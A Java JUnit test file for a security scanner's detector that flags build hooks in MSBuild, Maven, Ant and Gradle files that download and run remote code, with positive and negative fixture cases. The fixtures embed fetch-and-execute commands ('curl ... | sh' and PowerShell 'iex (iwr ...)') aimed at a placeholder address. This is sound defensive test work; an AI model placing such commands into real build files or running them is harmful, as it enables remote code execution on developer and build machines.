package dev.assay.detectors.indicator.autorun;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.detectors.AllDetectors;
import dev.assay.engine.report.Finding;
import dev.assay.engine.scan.MemoryConnector;
import dev.assay.engine.scan.TestScan;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Commands that builds run: what they do decides. */
class BuildCommandsTest {
    private static final String BAD = "curl -s http://192.0.2.1/x | sh";

    private static List<Finding> scan(String name, String text) {
        return new TestScan(AllDetectors.ALL)
                .only(Set.of("indicator"))
                .run(new MemoryConnector().file(name, text.getBytes(UTF_8)))
                .findings();
    }

    private static void runsDownload(String name, String text, int line) {
        List<Finding> findings = scan(name, text);
        assertThat(findings).extracting(Finding::ruleId).containsExactly("indicator/hook-runs-download");
        assertThat(findings.getFirst().location().line()).isEqualTo(line);
    }

    @ParameterizedTest
    @ValueSource(strings = {"a.csproj", "Directory.Build.targets", "build/p.props", "a.vcxproj"})
    void tasksOfMsbuild(String name) {
        runsDownload(
                name,
                "<Project>\n  <Target Name=\"a\" BeforeTargets=\"BeforeBuild\">\n    <Exec Command=\"" + BAD
                        + "\" />\n  </Target>\n</Project>\n",
                3);
    }

    @Test
    void eventsOfMsbuild() {
        runsDownload(
                "a.csproj",
                "<Project><PropertyGroup>\n<PreBuildEvent>" + BAD + "</PreBuildEvent></PropertyGroup></Project>",
                2);
        runsDownload(
                "a.csproj",
                "<Project><PropertyGroup>\n<PreBuildEvent>\necho x\ncall " + BAD
                        + "\n</PreBuildEvent></PropertyGroup></Project>",
                2);
        runsDownload(
                "a.vcxproj",
                "<Project><ItemDefinitionGroup>\n<PostBuildEvent><Command>" + BAD
                        + "</Command></PostBuildEvent></ItemDefinitionGroup></Project>",
                2);
        runsDownload(
                "a.targets",
                "<Project><Target Name='a'>\n<Exec Command=\"powershell -c &quot;iex (iwr http://192.0.2.1/x)&quot;\"/></Target></Project>",
                2);
    }

    @Test
    void pluginsOfMaven() {
        String pom =
                "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><executions><execution>"
                        + "<phase>validate</phase>\n<configuration><executable>sh</executable><arguments><argument>-c</argument>"
                        + "<argument>%s</argument></arguments></configuration>"
                        + "</execution></executions></plugin></plugins></build></project>";
        runsDownload("pom.xml", pom.formatted(BAD), 2);
        assertThat(scan("pom.xml", pom.formatted("curl -s https://a.example/x -o x")))
                .isEmpty();
        runsDownload(
                "pom.xml",
                "<project><build><plugins><plugin><artifactId>maven-antrun-plugin</artifactId><configuration><target>\n"
                        + "<exec executable=\"bash\"><arg value=\"-c\"/><arg value=\"" + BAD + "\"/></exec>"
                        + "</target></configuration></plugin></plugins></build></project>",
                2);
    }

    @Test
    void tasksOfAnt() {
        runsDownload(
                "build.xml",
                "<project><target name='a'>\n<exec executable='sh'><arg line=\"-c '" + BAD
                        + "'\"/></exec></target></project>",
                2);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            quoteCharacter = '~',
            value = {
                "build.gradle; task a(type: Exec) {#    commandLine 'sh', '-c', '%s'#}; 2",
                "build.gradle; exec {#    commandLine('sh', '-c',#        \"%s\")#}; 2",
                "init.gradle; #['sh', '-c', '%s'].execute().text; 2",
                "settings.gradle; def x = 1#'sh -c \"%s\"'.execute(); 2",
                "build.gradle.kts; tasks.register<Exec>(\"a\") {#    commandLine(\"sh\", \"-c\", \"%s\")#}; 2",
                "build.gradle; exec {#    commandLine = ['sh', '-c', '%s']#}; 2",
                "build.gradle; #Runtime.getRuntime().exec(new String[] {'sh', '-c', '%s'}); 2",
                "build.gradle; task a(type: Exec) {#    executable 'sh'#    args '-c', '%s'#}; 2",
                "build.gradle; exec {#    executable = 'sh'#    args = ['-c', '%s']#}; 2",
                "build.gradle; exec {#    setExecutable('sh')#    args('-c')#    args('%s')#}; 2",
                "build.gradle.kts; exec { args(\"-c\", \"%s\")#x { }#    executable(\"sh\") }; 3",
                "build.gradle; #new ProcessBuilder('sh', '-c', '%s').start(); 2",
            })
    void whatGradleStarts(String name, String program, int line) {
        runsDownload(name, program.replace('#', '\n').formatted(BAD), line);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            quoteCharacter = '~',
            value = {
                "build.gradle; a { executable 'sh' }#b { args '-c', '%s' }",
                "build.gradle; a { executable file('sh') }#println '%s'",
                "build.gradle; // commandLine 'sh', '-c', '%s'",
                "build.gradle; /* ['sh', '-c', '%s'].execute() */",
                "build.gradle; println 'run: %s'",
                "build.gradle; description = '%s'#exec { commandLine 'git', 'describe', '--tags' }",
                "build.gradle; def r = executor.execute('%s')",
                "build.gradle; commandLine 'git', 'describe'#println 'sh -c \"%s\"'",
                "a.csproj; <Project><Target Name='a'><Message Text='%s'/></Target></Project>",
                "a.csproj; <Project><Target Name='a'><Exec Command='dotnet tool restore'/></Target></Project>",
                "a.csproj; <Project><!-- <Exec Command='%s'/> --></Project>",
                "pom.xml; <project><description>exec-maven-plugin runs %s</description></project>",
                "a.props; <Other><Exec Command='%s'/></Other>",
            })
    void whatIsNoneOfThem(String name, String text) {
        assertThat(scan(name, text.replace('#', '\n').formatted(BAD))).isEmpty();
    }
}
